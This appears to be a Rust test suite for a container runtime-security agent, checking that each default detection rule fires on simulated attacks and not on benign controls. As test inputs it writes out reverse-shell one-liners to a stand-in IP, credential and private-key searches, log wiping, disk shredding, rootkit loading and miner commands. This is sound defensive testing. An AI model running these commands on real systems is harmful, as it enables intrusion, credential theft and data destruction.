//! Every default rule fired by a synthetic event that models the real action, and not
//! fired by its controls (the nearest benign actions).

mod common;

use common::*;
use node_agent_security::event::EventType;

const WRITE_TRUNC: i32 = libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC;

/// Rules covered below; a default rule missing here fails `every_default_rule_is_tested`.
const TESTED: &[&str] = &[
    "Terminal shell in container",
    "Write below etc",
    "Read sensitive file untrusted",
    "Launch Package Management Process in Container",
    "PTRACE attached to process",
    "PTRACE anti-debug attempt",
    "Linux Kernel Module Injection Detected",
    "Setuid to Root in Container",
    "Netcat Remote Code Execution in Container",
    "Reverse Shell Launched",
    "Contact K8S API Server From Container",
    "Mount from Container",
    "Clear Log Activities",
    "Delete or Truncate Log Files",
    "Remove Bulk Data from Disk",
    "Detect outbound connections to common miner pool ports",
    "Detect crypto miners using the Stratum protocol",
    "Search Private Keys or Passwords",
    "Find AWS Credentials",
    "Execution from /dev/shm",
    "Fileless execution via memfd_create",
    "Run shell untrusted",
    "Change thread namespace",
    "Change namespace privileges via unshare",
    "BPF Program Loaded in Container",
];

#[test]
fn every_default_rule_is_tested_and_loads_cleanly() {
    let rules = default_rules();
    for rule in rules.rules() {
        assert!(
            TESTED.contains(&&*rule.name),
            "no test for default rule {:?}",
            rule.name
        );
        assert!(rule.enabled, "{} is disabled", rule.name);
        assert!(
            !rule.event_types.is_empty(),
            "{} matches no event type",
            rule.name
        );
        assert!(
            !rule.event_types.is_all(),
            "{} has no evt.type restriction",
            rule.name
        );
    }
    assert_eq!(rules.rules().len(), TESTED.len());
    for t in [EventType::Clone, EventType::Fork, EventType::Procexit] {
        assert_eq!(rules.candidates(t), 0, "a default rule runs on {t:?}");
    }
    assert!(rules.warnings().is_empty(), "{:#?}", rules.warnings());
}

#[test]
fn terminal_shell_in_container() {
    let rule = "Terminal shell in container";
    let mut w = World::new();
    // kubectl exec -it web -- bash: `runc exec` (a host process) starts runc's init in
    // the container, which execs bash with the pty: bash's parent is runc.
    let (_, alerts) = w.spawn(11, Exec::new("bash", &["bash"]).tty(PTS0));
    assert!(
        !fired(&alerts, rule),
        "a child of runc outside the container is the host's"
    );
    let exec_init = w.container(WEB);
    let alerts = w.exec(exec_init, Exec::new("bash", &["bash"]).tty(PTS0));
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let init = w.container(WEB);
    let a = alerts.iter().find(|a| &*a.rule == rule).unwrap();
    assert!(
        a.output.contains("container_id=aaaaaaaaaaaa"),
        "{}",
        a.output
    );
    assert!(
        a.output.contains("k8s_ns=default k8s_pod_name=web-7d4b9"),
        "{}",
        a.output
    );
    assert!(a.output.contains("terminal=34816"), "{}", a.output);
    // Controls: no terminal (kubectl exec without -t), and a shell a server started.
    let (_, alerts) = w.spawn(init, Exec::new("sh", &["sh", "-c", "date"]));
    assert!(!fired(&alerts, rule));
    let (nginx, _) = w.spawn(init, Exec::new("nginx", &["nginx"]));
    let (_, alerts) = w.spawn(nginx, Exec::new("sh", &["sh"]).tty(PTS0));
    assert!(
        !fired(&alerts, rule),
        "parent nginx is no container entrypoint"
    );
    // A terminal shell on the host is not a container's.
    let (_, alerts) = w.spawn(1, Exec::new("bash", &["bash"]).tty(PTS0));
    assert!(!fired(&alerts, rule));
}

#[test]
fn write_below_etc() {
    let rule = "Write below etc";
    let mut w = World::new();
    // echo evil.so > /etc/ld.so.preload, from a root shell on the host.
    let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]).tty(PTS0));
    let alerts = w.open(bash, "/etc/ld.so.preload", WRITE_TRUNC);
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0].output.contains("file=/etc/ld.so.preload"),
        "{}",
        alerts[0].output
    );
    // A path that only normalises below /etc is below /etc.
    assert!(fired(
        &w.open(bash, "/tmp/../etc/cron.d/x", WRITE_TRUNC),
        rule
    ));
    // Controls: reading, writing elsewhere, a package manager, and the exception.
    assert!(!fired(&w.open(bash, "/etc/passwd", libc::O_RDONLY), rule));
    assert!(!fired(&w.open(bash, "/tmp/x", WRITE_TRUNC), rule));
    assert!(!fired(&w.open(bash, "/etcetera/x", WRITE_TRUNC), rule));
    let (dpkg, _) = w.spawn(bash, Exec::new("dpkg", &["dpkg", "-i", "x.deb"]));
    assert!(!fired(&w.open(dpkg, "/etc/x.conf", WRITE_TRUNC), rule));
    let (sh, _) = w.spawn(dpkg, Exec::new("sh", &["sh", "postinst"]));
    assert!(
        !fired(&w.open(sh, "/etc/x.conf", WRITE_TRUNC), rule),
        "run by dpkg"
    );
    let (kubelet, _) = w.spawn(1, Exec::new("kubelet", &["kubelet"]));
    assert!(!fired(
        &w.open(kubelet, "/etc/kubernetes/manifests/etcd.yaml", WRITE_TRUNC),
        rule
    ));
    assert!(
        fired(&w.open(kubelet, "/etc/passwd", WRITE_TRUNC), rule),
        "only its own files"
    );
    // A failed open (fd.num < 0) wrote nothing.
    let mut failed = w.open(bash, "/etc/x", WRITE_TRUNC);
    failed.clear();
    let args = node_agent_security::event::EventArgs::Open(node_agent_security::event::OpenArgs {
        dirfd: libc::AT_FDCWD,
        path: "/etc/y".into(),
        flags: WRITE_TRUNC as u32,
        mode: 0,
    });
    assert!(!fired(
        &w.event(bash, EventType::Openat, args, -(libc::EACCES as i64)),
        rule
    ));
}

#[test]
fn read_sensitive_file_untrusted() {
    let rule = "Read sensitive file untrusted";
    let mut w = World::new();
    let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]));
    let (cat, _) = w.spawn(bash, Exec::new("cat", &["cat", "/etc/shadow"]));
    let alerts = w.open(cat, "/etc/shadow", libc::O_RDONLY);
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(fired(
        &w.open(cat, "/etc/sudoers.d/90-cloud", libc::O_RDONLY),
        rule
    ));
    // Controls: a non-sensitive file, and the programs that read shadow for a living.
    assert!(!fired(&w.open(cat, "/etc/hostname", libc::O_RDONLY), rule));
    let (sshd, _) = w.spawn(1, Exec::new("sshd", &["sshd", "-D"]));
    assert!(!fired(&w.open(sshd, "/etc/shadow", libc::O_RDONLY), rule));
    let (chk, _) = w.spawn(sshd, Exec::new("unix_chkpwd", &["unix_chkpwd", "alice"]));
    assert!(!fired(&w.open(chk, "/etc/shadow", libc::O_RDONLY), rule));
}

#[test]
fn package_manager_in_container() {
    let rule = "Launch Package Management Process in Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (sh, _) = w.spawn(init, Exec::new("sh", &["sh"]).tty(PTS0));
    let (apt, alerts) = w.spawn(
        sh,
        Exec::new("apt-get", &["apt-get", "install", "-y", "nmap"]),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    // Controls: apt's own children (dpkg), apt on the host, and apt's _apt sandbox user.
    let (_, alerts) = w.spawn(apt, Exec::new("dpkg", &["dpkg", "--unpack", "nmap.deb"]));
    assert!(!fired(&alerts, rule), "dpkg below apt-get");
    let (_, alerts) = w.spawn(1, Exec::new("apt-get", &["apt-get", "update"]));
    assert!(!fired(&alerts, rule));
    let (_, alerts) = w.spawn(sh, Exec::new("apt", &["apt", "update"]).uid(42));
    assert!(!fired(&alerts, rule), "user _apt");
}

#[test]
fn ptrace_attach() {
    let rule = "PTRACE attached to process";
    let mut w = World::new();
    let (victim, _) = w.spawn(1, Exec::new("sshd", &["sshd"]));
    let (inject, _) = w.spawn(1, Exec::new("inject", &["./inject", "--pid", "1001"]));
    for request in [16, 0x4206, 4, 5] {
        // ATTACH, SEIZE, POKETEXT, POKEDATA
        let alerts = w.ptrace(inject, request, victim as i32);
        assert!(
            fired(&alerts, rule),
            "request {request}: {:?}",
            names(&alerts)
        );
    }
    assert!(
        w.ptrace(inject, 16, victim as i32)[0]
            .output
            .contains("request=PTRACE_ATTACH")
    );
    // Controls: reading a tracee (PEEKDATA), detaching, TRACEME, a known debugger.
    for request in [2, 17, 0] {
        assert!(
            !fired(&w.ptrace(inject, request, victim as i32), rule),
            "request {request}"
        );
    }
    let mut w = World::with_rules(
        node_agent_security::RuleSetBuilder::new()
            .defaults()
            .source(node_agent_security::rules::RuleSource {
                name: "local.yaml".into(),
                content: "- list: known_ptrace_binaries\n  items: [gdb]\n  override:\n    items: append\n".into(),
            })
            .build()
            .unwrap(),
    );
    let (gdb, _) = w.spawn(1, Exec::new("gdb", &["gdb", "-p", "1"]));
    assert!(!fired(&w.ptrace(gdb, 16, 1), rule));
}

#[test]
fn ptrace_anti_debug() {
    let rule = "PTRACE anti-debug attempt";
    let mut w = World::new();
    let (malware, _) = w.spawn(1, Exec::new("kworkerds", &["kworkerds"]));
    assert!(fired(&w.ptrace(malware, 0, 0), rule));
    assert!(!fired(&w.ptrace(malware, 16, 1), rule));
}

#[test]
fn kernel_module_injection_from_container() {
    let rule = "Linux Kernel Module Injection Detected";
    let mut w = World::new();
    let init = w.container(WEB);
    let (insmod, _) = w.spawn(
        init,
        Exec::new("insmod", &["insmod", "/tmp/rootkit.ko"]).caps(CAP_SYS_MODULE | CAP_SYS_ADMIN),
    );
    let alerts = w.finit_module(insmod, "/tmp/rootkit.ko");
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0].output.contains("module=/tmp/rootkit.ko"),
        "{}",
        alerts[0].output
    );
    // Controls: without CAP_SYS_MODULE (the attempt fails), and modprobe on the host.
    let (weak, _) = w.spawn(init, Exec::new("insmod", &["insmod", "/tmp/rootkit.ko"]));
    assert!(!fired(&w.finit_module(weak, "/tmp/rootkit.ko"), rule));
    let (modprobe, _) = w.spawn(
        1,
        Exec::new("modprobe", &["modprobe", "br_netfilter"]).caps(u64::MAX >> 23),
    );
    assert!(!fired(
        &w.finit_module(modprobe, "/lib/modules/br_netfilter.ko"),
        rule
    ));
}

#[test]
fn setuid_to_root_in_container() {
    let rule = "Setuid to Root in Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (exploit, _) = w.spawn(init, Exec::new("exploit", &["./exploit"]).uid(1000));
    let alerts = w.setuid(exploit, 0);
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    // Controls: root dropping privileges (nginx workers), sudo, and the host.
    let (nginx, _) = w.spawn(init, Exec::new("nginx", &["nginx"]));
    assert!(!fired(&w.setuid(nginx, 33), rule));
    let (sudo, _) = w.spawn(init, Exec::new("sudo", &["sudo", "id"]).uid(1000));
    assert!(!fired(&w.setuid(sudo, 0), rule));
    let (host, _) = w.spawn(1, Exec::new("exploit", &["./exploit"]).uid(1000));
    assert!(!fired(&w.setuid(host, 0), rule));
}

#[test]
fn netcat_remote_code_execution() {
    let rule = "Netcat Remote Code Execution in Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (_, alerts) = w.spawn(
        init,
        Exec::new("nc", &["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(
        init,
        Exec::new(
            "ncat",
            &["ncat", "--sh-exec", "bash", "203.0.113.7", "4444"],
        ),
    );
    assert!(fired(&alerts, rule));
    // Control: netcat as a port checker.
    let (_, alerts) = w.spawn(init, Exec::new("nc", &["nc", "-z", "db", "5432"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn reverse_shell() {
    let rule = "Reverse Shell Launched";
    let mut w = World::new();
    let init = w.container(WEB);
    let (_, alerts) = w.spawn(
        init,
        Exec::new(
            "bash",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
        ),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(
        1,
        Exec::new(
            "socat",
            &["socat", "tcp:203.0.113.7:4444", "EXEC:/bin/bash,pty"],
        ),
    );
    assert!(fired(&alerts, rule));
    let py = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")";
    let (_, alerts) = w.spawn(init, Exec::new("python3", &["python3", "-c", py]));
    assert!(fired(&alerts, rule));
    // Controls: an ordinary shell command and socat as a plain relay.
    let (_, alerts) = w.spawn(
        init,
        Exec::new("bash", &["bash", "-c", "curl -s http://web/healthz"]),
    );
    assert!(!fired(&alerts, rule));
    let (_, alerts) = w.spawn(
        1,
        Exec::new("socat", &["socat", "tcp-listen:80", "tcp:10.0.0.1:8080"]),
    );
    assert!(!fired(&alerts, rule));
}

#[test]
fn contact_kubernetes_api_server() {
    let rule = "Contact K8S API Server From Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (curl, _) = w.spawn(
        init,
        Exec::new("curl", &["curl", "-k", "https://10.96.0.1/api"]),
    );
    let alerts = w.connect(curl, "10.96.0.1:443");
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0]
            .output
            .contains("connection=10.244.1.7:40112->10.96.0.1:443"),
        "{}",
        alerts[0].output
    );
    // Controls: another service, another port, kube-system, the host, node-agent itself.
    assert!(!fired(&w.connect(curl, "10.96.0.2:443"), rule));
    assert!(!fired(&w.connect(curl, "10.96.0.1:80"), rule));
    let sys = w.container(SYSTEM);
    let (coredns, _) = w.spawn(sys, Exec::new("coredns", &["coredns"]));
    assert!(!fired(&w.connect(coredns, "10.96.0.1:443"), rule));
    let (kubectl, _) = w.spawn(1, Exec::new("kubectl", &["kubectl", "get", "pods"]));
    assert!(!fired(&w.connect(kubectl, "10.96.0.1:443"), rule));
    let (agent, _) = w.spawn(init, Exec::new("node-agent", &["node-agent"]));
    assert!(!fired(&w.connect(agent, "10.96.0.1:443"), rule));
    // Without configured addresses the rule cannot fire at all.
    let mut unconfigured = World::with_rules(node_agent_security::RuleSet::defaults().unwrap());
    let init = unconfigured.container(WEB);
    let (curl, _) = unconfigured.spawn(init, Exec::new("curl", &["curl"]));
    assert!(!fired(&unconfigured.connect(curl, "10.96.0.1:443"), rule));
}

#[test]
fn mount_from_container() {
    let rule = "Mount from Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (mount, _) = w.spawn(
        init,
        Exec::new("mount", &["mount", "/dev/sda1", "/mnt"]).caps(CAP_SYS_ADMIN),
    );
    let alerts = w.mount(mount, "/dev/sda1", "/mnt", "ext4");
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0]
            .output
            .contains("dev=/dev/sda1 dir=/mnt type=ext4"),
        "{}",
        alerts[0].output
    );
    // Controls: runc setting the container up, and mounts on the host.
    assert!(!fired(&w.mount(init, "proc", "/proc", "proc"), rule));
    let (host_mount, _) = w.spawn(1, Exec::new("mount", &["mount", "-a"]));
    assert!(!fired(
        &w.mount(host_mount, "/dev/sdb1", "/data", "xfs"),
        rule
    ));
}

#[test]
fn clear_log_activities() {
    let rule = "Clear Log Activities";
    let mut w = World::new();
    let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]));
    // > /var/log/auth.log
    let alerts = w.open(bash, "/var/log/auth.log", WRITE_TRUNC);
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(fired(
        &w.open(bash, "/var/log/nginx/access.log", WRITE_TRUNC),
        rule
    ));
    // Controls: appending (every logger), truncating elsewhere, logrotate's copytruncate.
    let append = libc::O_WRONLY | libc::O_APPEND | libc::O_CREAT;
    let (rsyslogd, _) = w.spawn(1, Exec::new("rsyslogd", &["rsyslogd"]));
    assert!(!fired(&w.open(rsyslogd, "/var/log/syslog", append), rule));
    assert!(!fired(&w.open(bash, "/tmp/out.log", WRITE_TRUNC), rule));
    let (logrotate, _) = w.spawn(
        1,
        Exec::new("logrotate", &["logrotate", "/etc/logrotate.conf"]),
    );
    assert!(!fired(
        &w.open(logrotate, "/var/log/syslog", WRITE_TRUNC),
        rule
    ));
}

#[test]
fn delete_log_files() {
    let rule = "Delete or Truncate Log Files";
    let mut w = World::new();
    let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]));
    let (_, alerts) = w.spawn(bash, Exec::new("rm", &["rm", "-rf", "/var/log/nginx"]));
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(
        bash,
        Exec::new("truncate", &["truncate", "-s0", "/var/log/wtmp"]),
    );
    assert!(fired(&alerts, rule));
    // Controls: other files, and logrotate's own helpers.
    let (_, alerts) = w.spawn(bash, Exec::new("rm", &["rm", "-rf", "/tmp/build"]));
    assert!(!fired(&alerts, rule));
    let (logrotate, _) = w.spawn(1, Exec::new("logrotate", &["logrotate"]));
    let (sh, _) = w.spawn(logrotate, Exec::new("sh", &["sh", "-c", "postrotate"]));
    let (_, alerts) = w.spawn(sh, Exec::new("rm", &["rm", "/var/log/app.log.9"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn remove_bulk_data() {
    let rule = "Remove Bulk Data from Disk";
    let mut w = World::new();
    let (_, alerts) = w.spawn(1, Exec::new("shred", &["shred", "-n", "3", "/dev/sda"]));
    assert!(fired(&alerts, rule));
    let (_, alerts) = w.spawn(1, Exec::new("ls", &["ls", "/dev"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn miner_pool_ports() {
    let rule = "Detect outbound connections to common miner pool ports";
    let mut w = World::new();
    let init = w.container(WEB);
    let (xmrig, _) = w.spawn(init, Exec::new("xmrig", &["xmrig"]));
    let alerts = w.connect(xmrig, "203.0.113.9:3333");
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0].output.contains("ip=203.0.113.9 port=3333"),
        "{}",
        alerts[0].output
    );
    // Controls: a private destination, loopback, and a web port.
    assert!(!fired(&w.connect(xmrig, "10.0.0.5:3333"), rule));
    assert!(!fired(&w.connect(xmrig, "127.0.0.1:3333"), rule));
    assert!(!fired(&w.connect(xmrig, "203.0.113.9:443"), rule));
}

#[test]
fn stratum_miner() {
    let rule = "Detect crypto miners using the Stratum protocol";
    let mut w = World::new();
    let init = w.container(WEB);
    let (_, alerts) = w.spawn(
        init,
        Exec::new(
            "xmrig",
            &[
                "xmrig",
                "-o",
                "stratum+tcp://pool.example:3333",
                "-u",
                "wallet",
            ],
        ),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(init, Exec::new("xmrig", &["xmrig", "--help"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn search_private_keys() {
    let rule = "Search Private Keys or Passwords";
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        1,
        Exec::new("grep", &["grep", "-r", "BEGIN RSA PRIVATE", "/home"]),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(1, Exec::new("find", &["find", "/", "-name", "id_ed25519"]));
    assert!(fired(&alerts, rule));
    let (_, alerts) = w.spawn(1, Exec::new("grep", &["grep", "-r", "TODO", "src"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn find_aws_credentials() {
    let rule = "Find AWS Credentials";
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        1,
        Exec::new("grep", &["grep", "-ri", "aws_secret_access_key", "/"]),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(
        1,
        Exec::new("find", &["find", "/", "-path", "*/.aws/credentials"]),
    );
    assert!(fired(&alerts, rule));
    let (_, alerts) = w.spawn(1, Exec::new("find", &["find", "/var", "-name", "*.log"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn execution_from_dev_shm() {
    let rule = "Execution from /dev/shm";
    let mut w = World::new();
    let init = w.container(WEB);
    let (_, alerts) = w.spawn(init, Exec::new("x", &["/dev/shm/x"]).exe_path("/dev/shm/x"));
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    let (_, alerts) = w.spawn(init, Exec::new("sh", &["sh", "-c", "/dev/shm/run.sh"]));
    assert!(fired(&alerts, rule));
    let (_, alerts) = w.spawn(
        init,
        Exec::new("x", &["/usr/local/bin/x"]).exe_path("/usr/local/bin/x"),
    );
    assert!(!fired(&alerts, rule));
}

#[test]
fn fileless_execution() {
    let rule = "Fileless execution via memfd_create";
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        1,
        Exec::new("3", &["payload"]).exe_path("/memfd:payload (deleted)"),
    );
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    // Controls: runc re-executing itself from its sealed memfd, and a normal binary.
    let (_, alerts) = w.spawn(
        10,
        Exec::new("runc", &["runc", "init"])
            .exe_path("/memfd:runc_cloned:/proc/self/exe (deleted)"),
    );
    assert!(!fired(&alerts, rule));
    let (_, alerts) = w.spawn(1, Exec::new("ls", &["ls"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn run_shell_untrusted() {
    let rule = "Run shell untrusted";
    let mut w = World::new();
    let init = w.container(WEB);
    let (nginx, _) = w.spawn(init, Exec::new("nginx", &["nginx", "-g", "daemon off;"]));
    let (php, _) = w.spawn(nginx, Exec::new("php-fpm", &["php-fpm"]));
    let (_, alerts) = w.spawn(php, Exec::new("sh", &["sh", "-c", "id"]));
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    // Control: a shell below a shell below a container entrypoint.
    let (bash, _) = w.spawn(init, Exec::new("bash", &["bash"]));
    let (_, alerts) = w.spawn(bash, Exec::new("sh", &["sh", "-c", "id"]));
    assert!(!fired(&alerts, rule));
}

#[test]
fn change_thread_namespace() {
    let rule = "Change thread namespace";
    let mut w = World::new();
    let init = w.container(WEB);
    let (evil, _) = w.spawn(init, Exec::new("evil", &["./evil"]));
    assert!(fired(&w.setns(evil), rule));
    // Controls: the runtime joining namespaces, nsenter and CNI plugins on the host, and a
    // failed attempt.
    assert!(!fired(&w.setns(init), rule));
    let (nsenter, _) = w.spawn(1, Exec::new("nsenter", &["nsenter", "-t", "1", "-n"]));
    assert!(!fired(&w.setns(nsenter), rule));
    let (cni, _) = w.spawn(1, Exec::new("calico", &["calico"]));
    assert!(!fired(&w.setns(cni), rule));
    let failed = w.event(
        evil,
        EventType::Setns,
        node_agent_security::event::EventArgs::Setns(node_agent_security::event::SetnsArgs {
            fd: 3,
            nstype: 0,
        }),
        -(libc::EPERM as i64),
    );
    assert!(!fired(&failed, rule));
}

#[test]
fn unshare_in_container() {
    let rule = "Change namespace privileges via unshare";
    let mut w = World::new();
    let init = w.container(WEB);
    let (unshare, _) = w.spawn(
        init,
        Exec::new("unshare", &["unshare", "-Ur", "sh"]).uid(1000),
    );
    let alerts = w.unshare(unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNS);
    assert!(fired(&alerts, rule), "{:?}", names(&alerts));
    assert!(
        alerts[0].output.contains("flags=CLONE_NEWNS|CLONE_NEWUSER"),
        "{}",
        alerts[0].output
    );
    // Controls: a privileged container's process, and the runtime.
    let (admin, _) = w.spawn(
        init,
        Exec::new("unshare", &["unshare", "-n"]).caps(CAP_SYS_ADMIN),
    );
    assert!(!fired(&w.unshare(admin, libc::CLONE_NEWNET), rule));
    assert!(!fired(&w.unshare(init, libc::CLONE_NEWNS), rule));
}

#[test]
fn bpf_in_container() {
    let rule = "BPF Program Loaded in Container";
    let mut w = World::new();
    let init = w.container(WEB);
    let (loader, _) = w.spawn(init, Exec::new("loader", &["./loader"]).caps(CAP_SYS_ADMIN));
    assert!(fired(&w.bpf(loader, 5), rule));
    // Controls: creating a map, node-agent itself, and the host.
    assert!(!fired(&w.bpf(loader, 0), rule));
    let (agent, _) = w.spawn(init, Exec::new("node-agent", &["node-agent"]));
    assert!(!fired(&w.bpf(agent, 5), rule));
    let (host, _) = w.spawn(1, Exec::new("loader", &["./loader"]));
    assert!(!fired(&w.bpf(host, 5), rule));
}
